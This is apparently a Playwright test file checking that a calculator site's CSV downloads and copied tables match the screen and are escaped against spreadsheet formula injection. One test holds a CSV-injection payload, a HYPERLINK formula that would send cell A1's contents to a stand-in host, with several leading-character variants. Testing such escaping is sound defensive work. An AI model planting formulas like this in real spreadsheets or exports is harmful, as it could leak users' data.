"""Tables that are taken away: the file and the clipboard hold what the screen shows, and nothing that runs."""

from __future__ import annotations

import csv
import io

import pytest
from playwright.sync_api import Locator, Page, expect

from astcore.calculators import CALCULATORS
from tests.conftest import OpenPage
from tests.reader import address, answered, core

NAMES = pytest.mark.parametrize("name", CALCULATORS)
COPYING = {"permissions": ["clipboard-read", "clipboard-write"]}

SHOWN = """
(table) => [...table.rows].map((row) => [...row.cells].map((cell) => cell.innerText.replace(/\\s+/g, " ").trim()))
"""

PASTED = """
async () => {
  const [item] = await navigator.clipboard.read();
  const text = async (type) => (await item.getType(type)).text();
  const page = new DOMParser().parseFromString(await text("text/html"), "text/html");
  const rows = [...page.querySelector("table").rows].map((row) => [...row.cells].map((cell) => cell.textContent));
  return { plain: await text("text/plain"), rows };
}
"""

SIGNS = str.maketrans("", "", "£,†‡ ")


def tables(page: Page) -> list[Locator]:
    """The answer's tables, all opened."""
    page.evaluate("document.querySelectorAll('.ast-answer details').forEach((each) => (each.open = true))")
    return page.locator(".ast-answer .ast-answer-table").all()


def saved(page: Page, table: Locator) -> tuple[str, list[list[str]]]:
    """The name and the rows of a table's file, as Python reads it."""
    with page.expect_download() as waited:
        table.locator("[data-action=csv]").click()
    content = waited.value.path().read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert "\n" not in text.replace("\r\n", "")
    return waited.value.suggested_filename, list(csv.reader(io.StringIO(text, newline=""), strict=True))


def same(cell: str, shown: str) -> bool:
    """Whether a cell of a file says what the screen shows: the same words, or the plain number of a sum."""
    return cell == shown or cell.translate(SIGNS) == shown.translate(SIGNS).replace("−", "-")


def is_plain(cell: str) -> bool:
    """Whether no spreadsheet takes a cell for a formula."""
    return cell[:1] not in ("=", "+", "@", "\t", "\r") and (cell[:1] != "-" or cell[1:].replace(".", "").isdigit())


@NAMES
def test_the_file_and_the_clipboard_equal_the_screen(open_page: OpenPage, name: str) -> None:
    """Row by row and cell by cell; a column that shows standings by signs has a column of words beside it."""
    page = open_page(**COPYING)
    page.goto(address(name, CALCULATORS[name].example))
    answered(page)
    held = [table for table in core(name, CALCULATORS[name].example).outcome.tables if table.rows]
    found = tables(page)
    assert len(found) == len(held)
    for place, table in zip(found, held, strict=True):
        file, rows = saved(page, place)
        assert file == f"{name}-{table.key}.csv"
        assert len({len(row) for row in rows}) == 1
        assert all(is_plain(cell) for row in rows for cell in row)
        extra = {at for at, title in enumerate(rows[0]) if title.endswith(": standing")}
        bare = [[cell for at, cell in enumerate(row) if at not in extra] for row in rows]
        shown = place.locator("table").evaluate(SHOWN)
        assert len(bare) == len(shown) == len(table.rows) + 1
        assert [len(row) for row in bare] == [len(row) for row in shown]
        differing = [
            pair for a, b in zip(bare, shown, strict=True) for pair in zip(a, b, strict=True) if not same(*pair)
        ]
        assert differing == []
        place.locator("[data-action=copy-table]").click()
        expect(place.locator(".ast-said")).to_have_text("Table copied.")
        pasted = page.evaluate(PASTED)
        assert [line.split("\t") for line in pasted["plain"].split("\n")] == rows
        assert pasted["rows"] == rows


SET = """
(cell, [text, value]) => {
  cell.textContent = text;
  if (value) cell.dataset.value = value;
  else delete cell.dataset.value;
}
"""

FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"Open")'


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\uff1d"])
def test_no_words_become_a_formula(open_page: OpenPage, begins: str) -> None:
    """A cell that begins as a formula does is a text in the file and on the clipboard; a negative sum stays one."""
    page = open_page(**COPYING)
    page.goto(address("pay-range", CALCULATORS["pay-range"].example))
    answered(page)
    first = tables(page)[0]
    words = f'{begins}{FORMULA[1:]}\t\n"quoted", and £5'
    first.locator("td").nth(0).evaluate(SET, [words, None])
    first.locator("td").nth(1).evaluate(SET, ["−£1,200", "-1200"])
    _, rows = saved(page, first)
    assert rows[1][1] == "'" + " ".join(words.split())
    assert "-1200" in rows[1]
    first.locator("[data-action=copy-table]").click()
    expect(first.locator(".ast-said")).to_have_text("Table copied.")
    assert page.evaluate(PASTED)["plain"].split("\n")[1].split("\t")[1].startswith(f"'{begins}")


def test_where_the_browser_does_not_copy(open_page: OpenPage) -> None:
    """The reader gets the text, selected, to copy by hand; nothing says that it was copied."""
    page = open_page()
    page.add_init_script("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    page.goto(address("standards", {"stage": "post_threshold"}))
    answered(page)
    page.locator("[data-action=copy-link]").click()
    box = page.locator(".ast-by-hand textarea")
    expect(box).to_be_focused()
    assert box.input_value().endswith(core("standards", {"stage": "post_threshold"}).query)
    assert page.evaluate("getSelection().toString() || document.activeElement.selectionEnd > 0")
    expect(page.locator(".ast-said:visible")).to_have_count(0)
